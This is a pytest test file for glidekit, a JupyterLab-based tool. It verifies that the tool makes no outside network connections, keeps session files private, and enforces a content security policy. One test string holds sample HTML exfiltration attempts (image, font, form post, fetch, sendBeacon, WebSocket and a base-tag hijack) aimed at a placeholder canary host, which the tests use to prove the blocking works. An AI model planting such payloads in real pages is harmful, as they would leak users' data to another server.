"""The README's command, as a reader types it: nothing of it leaves the machine."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import nbformat
import pytest
from support.connections import Connections
from support.jupyter_lab import free_port, private_environment, root_flag, stop, wait_for_server

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[2]
START = "uv run --no-dev glidekit"


def readers_command() -> list[str]:
    """The command as the README gives it; without uv around, the program that it starts."""
    assert START in (ROOT / "README.md").read_text(encoding="utf-8")
    if "UV" in os.environ:  # set by uv for what it runs
        return [os.environ["UV"], *START.split()[1:]]
    return [str(Path(sys.executable).with_name("glidekit"))]


@pytest.fixture
def connections(tmp_path: Path) -> Connections:
    return Connections(tmp_path)


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    """Where the command keeps everything."""
    return tmp_path_factory.mktemp("reader")


@pytest.fixture(scope="module")
def opened_by_command(folder: Path) -> Connections:
    """What the command, its server and their kernels connect to."""
    return Connections(folder)


@pytest.fixture(scope="module")
def address(folder: Path, opened_by_command: Connections) -> Iterator[str]:
    """What the command prints for the browser: no settings but the port, the folder and no browser."""
    port, output = free_port(), folder / "said.txt"
    command = [*readers_command(), "--no-browser", f"--port={port}", f"--folder={folder}"]
    environment = private_environment(folder / "jupyter") | opened_by_command.environment
    with output.open("wb") as sink:
        process = subprocess.Popen(command, cwd=ROOT, env=environment, stdout=sink, stderr=subprocess.STDOUT)
    try:
        wait_for_server(f"http://127.0.0.1:{port}", process, output)
        said = output.read_text(encoding="utf-8")
        found = re.search(rf"http://127\.0\.0\.1:{port}/lab/tree/00_start_here\.ipynb\?token=\w+", said)
        assert found, said
        yield found[0]
    finally:
        stop(process)


def test_neither_page_nor_server_nor_kernel_opens_an_outside_connection(
    address, opened_by_command, page, traffic, folder
):
    page.goto(address)
    page.wait_for_selector(".jp-Notebook")
    page.get_by_text("Python 3 (ipykernel) | Idle").wait_for()
    idle = page.get_by_text("Python 3 (ipykernel) | Idle")
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
    page.wait_for_function(
        """() => {
          const found = document.querySelectorAll('.jp-CodeCell .jp-InputPrompt');
          const prompts = [...found].map(one => one.textContent);
          return /\\d/.test(prompts[0]) && !prompts.some(text => text.includes('*'));
        }"""
    )
    idle.wait_for()
    page.wait_for_load_state("networkidle")
    assert len(traffic.requests) > 10
    assert traffic.outside == []
    assert opened_by_command.noted("inside"), "the recorder saw nothing, so it proves nothing"
    assert opened_by_command.noted("outside") == []
    assert (folder / "my-workbook" / "00_start_here.ipynb").is_file()


def test_the_recorder_would_see_a_connection(connections):
    code = "import socket\none = socket.socket()\none.setblocking(False)\none.connect_ex(('192.0.2.1', 9))"
    subprocess.run([sys.executable, "-c", code], env=os.environ | connections.environment, check=True)
    assert connections.noted("outside") == ["192.0.2.1 (socket.connect)"]


def test_plain_jupyterlab_in_this_environment_asks_for_no_news_either(tmp_path):
    port, output = free_port(), tmp_path / "said.txt"
    command = [sys.executable, "-m", "jupyter", "lab", "--no-browser", f"--port={port}"]
    command += ["--IdentityProvider.token=", *root_flag()]
    with output.open("wb") as sink:
        process = subprocess.Popen(
            command, cwd=tmp_path, env=private_environment(tmp_path / "jupyter"), stdout=sink, stderr=sink
        )
    try:
        wait_for_server(f"http://127.0.0.1:{port}", process, output)
        settings = "lab/api/settings/@jupyterlab/apputils-extension:notification"
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/{settings}") as answer:
            defaults = json.load(answer)["schema"]["properties"]
    finally:
        stop(process)
    assert defaults["fetchNews"]["default"] == "false"
    assert defaults["checkForUpdates"]["default"] is False


def rights(path: Path) -> int:
    """Of a file; of one that the server has put in another's place meanwhile none."""
    try:
        return path.stat().st_mode
    except FileNotFoundError:
        return 0


SESSION = """
import dataclasses
import glidekit as gk
from glidekit.planning.plan_file import write_plan
log = gk.open_log()
for record in gk.simulate(sessions=2, seed=1):
    log.save(dataclasses.replace(record, session_id=None, simulated=False))
log.back_up()
log.export("export")
log.export("export.json")
write_plan(gk.plan("gentle-start"), log.path.parent)
open("notes.txt", "w").write("mine")
"""


@pytest.mark.skipif(os.name == "nt", reason="Windows keeps rights in another way; a profile is private there")
def test_no_file_of_a_session_can_be_read_by_another_user(address, page, folder):
    cells = [nbformat.v4.new_code_cell(SESSION)]
    kernel = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
    notebook = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})
    start, _, token = address.partition("/lab/tree/00_start_here.ipynb?token=")
    page.request.put(
        f"{start}/api/contents/session.ipynb",
        data={"type": "notebook", "format": "json", "content": notebook},
        headers={"Authorization": f"token {token}"},
    )
    page.goto(address.replace("00_start_here.ipynb", "session.ipynb"))
    page.get_by_role("tab", name="session.ipynb", selected=True).wait_for()
    page.get_by_text("Python 3 (ipykernel) | Idle").wait_for()
    page.locator(".jp-Notebook:visible .jp-CodeCell .cm-content").click()
    page.keyboard.press("Shift+Enter")
    page.locator(".jp-InputPrompt:visible", has_text="[1]:").wait_for()
    for _ in range(2):  # the first save makes the checkpoint, the second writes over the notebook
        page.keyboard.press("Control+s")
        page.locator(".jp-mod-current.jp-mod-dirty").wait_for(state="detached")
    made = [*(folder / "my-workbook").rglob("*"), *(folder / "jupyter" / "backups").rglob("*")]
    names = {path.name for path in made}
    assert {"my-log.sqlite", "notes.txt", "export", ".ipynb_checkpoints", "session-checkpoint.ipynb"} <= names
    assert [path for path in made if path.suffix == ".json" and "plan" in path.name]
    assert [path for path in made if "backups" in path.parts], "no copy was made"
    assert {str(path): oct(rights(path)) for path in made if rights(path) & 0o077} == {}


# --- the page's own policy

# What a stranger's cell might do with what it reads on the page.
TRIES = """
<img src="CANARY/image">
<link rel="stylesheet" href="CANARY/style">
<style>@font-face {font-family: away; src: url("CANARY/font")} p {font-family: away}</style><p>words</p>
<script src="CANARY/script"></script>
<iframe name="gk-away"></iframe>
<form action="CANARY/form" method="post" target="gk-away"><input name="pain" value="7"></form>
<script>
  fetch("CANARY/fetch", {mode: "no-cors"}).catch(() => {});
  navigator.sendBeacon("CANARY/beacon", "pain=7");
  new WebSocket("CANARY/socket".replace("http", "ws"));
  document.querySelector("form[target=gk-away]").submit();
</script>
"""
ASKED = {"image", "style", "font", "script", "form", "fetch", "beacon", "socket"}


@pytest.fixture
def canary() -> Iterator[tuple[str, set[str]]]:
    """A server of another origin, and what it was asked for."""
    asked: set[str] = set()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.add(self.path.lstrip("/"))
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name that http.server calls

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.mark.own_page
def test_a_cell_can_send_nothing_to_another_server_nor_turn_the_pages_own_requests_there(
    open_notebook, canary
):
    address, asked = canary
    html = TRIES.replace("CANARY", address)
    base = f'<base href="{address}/">'
    notebook = open_notebook(
        [
            f"from IPython.display import HTML\nHTML({html!r})",
            f"from IPython.display import HTML\nHTML({base!r})",
        ]
    )
    notebook.page.evaluate(
        """() => {
          window.blocked = [];
          document.addEventListener('securitypolicyviolation', one => window.blocked.push(one.blockedURI));
        }"""
    )
    assert notebook.run_cell(0)
    blocked = lambda: {uri.rpartition("/")[2] for uri in notebook.page.evaluate("window.blocked")}  # noqa: E731 - a poll
    notebook.wait_until(lambda: blocked() >= ASKED, what="every try was blocked")
    assert asked == set()
    assert notebook.run_cell(1)
    notebook.wait_for("document.querySelector('.jp-OutputArea-output base') !== null")
    assert notebook.page.evaluate("document.baseURI").startswith(notebook.lab.url)
    assert asked == set()


def test_without_the_policy_the_other_server_would_be_asked(page, canary):
    """The control: the same HTML in a page of no server's."""
    address, asked = canary
    page.set_content(TRIES.replace("CANARY", address))
    page.wait_for_function("true")
    deadline = time.monotonic() + 20
    while asked < ASKED and time.monotonic() < deadline:
        page.wait_for_timeout(50)  # a poll
    assert asked == ASKED
